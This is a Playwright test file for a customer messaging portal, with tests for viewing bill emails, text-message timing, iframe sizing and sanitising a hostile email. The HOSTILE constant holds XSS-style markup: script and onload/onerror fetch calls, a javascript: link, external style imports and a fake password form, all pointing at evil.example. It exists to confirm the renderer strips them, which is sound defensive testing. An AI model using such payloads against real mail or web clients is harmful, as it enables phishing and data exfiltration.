import type { Page } from '@playwright/test'

import { hourAt } from '@switchboard/domain/instant'

import { expectAccessible } from './axe.ts'
import { expect, test } from './provider.ts'
import { signIn } from './steps.ts'
import { sendTimeCommand, readClock } from './time-machine.ts'

const EVIL = 'https://evil.example'

/** An email with markup that must not run. */
const HOSTILE = `<!doctype html><html><head>
  <meta http-equiv="refresh" content="0;url=${EVIL}/refresh">
  <link rel="stylesheet" href="${EVIL}/sheet.css">
  <style>@import "${EVIL}/import.css"; p { background: url(${EVIL}/style.gif) }</style>
  <script>top.document.title = 'taken over'; fetch('${EVIL}/script')</script></head>
  <body onload="fetch('${EVIL}/onload')">
  <h1>Kia ora</h1><p style="color: red">Your account is <b>safe</b>.</p>
  <img src="${EVIL}/open.gif" alt="Our logo" onerror="fetch('${EVIL}/onerror')">
  <form action="${EVIL}/form"><input name="password" type="password"><button>Sign in again</button></form>
  <iframe src="${EVIL}/frame"></iframe>
  <a href="javascript:fetch('${EVIL}/link')">press here</a> <a href="${EVIL}/page">read more</a>
  </body></html>`

test('COM-001 COM-002 COM-003 a customer finds the notice of a bill and reads it', async ({ page }) => {
  await signIn(page, 'aroha')
  await openMessages(page)
  const messages = page.getByRole('main').getByRole('listitem')
  expect(await messages.count()).toBeGreaterThan(20)
  await expectAccessible(page)

  const subject = await messages
    .getByRole('link', { name: /^Your bill of/ })
    .first()
    .innerText()
  await page.getByRole('link', { name: subject }).first().click()

  await expect(page.getByRole('heading', { level: 1 })).toHaveText(subject)
  await expect(page).toHaveURL(/\/communication\/\d+\/1$/)
  await expect(page.getByText(/^Kia ora Aroha Ngata/)).toBeVisible()
  await expect(page.getByText(/^Email to aroha@demo.example, sent /)).toBeVisible()
  await expectAccessible(page)

  await page.getByRole('main').getByRole('link', { name: 'Messages' }).click()
  await expect(page.getByRole('heading', { level: 1, name: 'Messages' })).toBeFocused()
})

/** An hour in New Zealand, because text messages wait for the morning. */
const BY_DAY = 10

test('a text message is in the inbox next to the email with the same content', async ({ page, provider }) => {
  const { now } = await readClock(provider)
  const milliseconds = (BY_DAY - hourAt(Date.parse(now))) * 3_600_000
  await signIn(page, 'ben')
  await sendTimeCommand(provider, 'clock', { milliseconds })
  try {
    const warnings = page.getByRole('main').getByRole('listitem').filter({ hasText: 'Your bill is overdue' })
    await expect(async () => {
      await openMessages(page)
      expect(await warnings.count()).toBe(2)
    }).toPass()
    await warnings.filter({ hasText: 'Text message' }).getByRole('link').click()
    await expect(page.getByText(/^Text message to 0225550117, sent /)).toBeVisible()
  } finally {
    await sendTimeCommand(provider, 'clock', { milliseconds: -milliseconds })
  }
})

test('a hostile email runs nothing, loads nothing and asks for nothing', async ({ page, context }) => {
  const requestedUrls: string[] = []
  context.on('request', (request) => {
    if (request.url().startsWith(EVIL)) requestedUrls.push(request.url())
  })
  await page.route(/\/api\/.+\/communication\/\d+\/1$/, async (route) => {
    const response = await route.fetch()
    const html = `"Html": ${JSON.stringify(HOSTILE)}`
    await route.fulfill({ response, body: (await response.text()).replace(/"Html" ?: ?null/, () => html) })
  })
  await signIn(page, 'aroha')
  await openMessages(page)
  await page
    .getByRole('link', { name: /^Your bill of/ })
    .first()
    .click()

  const letter = page.frameLocator('iframe')
  await expect(letter.getByRole('heading', { name: 'Kia ora' })).toBeVisible()
  await expect(letter.getByText('[Our logo]')).toBeVisible()
  await expect(letter.locator('form, input, button, img, script, style, iframe')).toHaveCount(0)
  await expect(letter.getByText('press here')).not.toHaveAttribute('href')
  await letter.getByText('press here').click()
  await expect(letter.getByRole('link', { name: 'read more' })).toHaveAttribute('rel', 'noopener noreferrer')
  await expectAccessible(page)

  expect(requestedUrls).toEqual([])
  expect(await page.title()).toMatch(/^Message - /)
})

test('the frame of a message is as high as its content', async ({ page }) => {
  await signIn(page, 'aroha')
  await openMessages(page)
  await page.getByRole('link', { name: /^How we tell you/ }).click()

  await expect(page.frameLocator('iframe').getByText('There is nothing for you to do.')).toBeVisible()
  const room = () =>
    page.locator('iframe').evaluate((frame: HTMLIFrameElement) => {
      const last = frame.contentDocument?.querySelector('p:last-child')
      return frame.clientHeight - (last?.getBoundingClientRect().bottom ?? Infinity)
    })
  expect(Math.abs(await room())).toBeLessThan(2)
  await page.setViewportSize({ width: 320, height: 600 })
  await expect.poll(async () => Math.abs(await room())).toBeLessThan(2)
})

async function openMessages(page: Page): Promise<void> {
  await page.goto('/mynotifications')
  await expect(page.getByRole('heading', { level: 1, name: 'Messages' })).toBeVisible()
  await expect(page.getByRole('main').getByRole('listitem').first()).toBeVisible()
}
